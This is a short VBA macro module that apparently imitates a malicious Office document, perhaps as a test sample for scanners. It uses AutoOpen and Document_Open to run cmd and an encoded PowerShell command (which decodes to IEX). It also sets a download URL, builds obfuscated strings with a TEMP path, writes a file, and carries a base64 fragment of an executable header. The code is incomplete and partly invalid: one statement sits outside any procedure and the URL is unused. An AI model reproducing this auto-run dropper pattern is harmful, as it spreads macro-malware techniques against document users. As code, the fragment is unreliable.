Attribute VB_Name = "Module1"
Sub AutoOpen()
    Shell "cmd /c echo test"
End Sub
Sub Document_Open()
 Set o = CreateObject("WScript.Shell")
 o.Run "powershell -enc SQBFAFgA"
 u = "http://192.0.2.7/x"
 s = Chr(65) & ChrW(66) & StrReverse("txt") & Environ$("TEMP")
 Open "x" _
 For Binary As #1
 Put #1, , s
End Sub
 b = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4A"
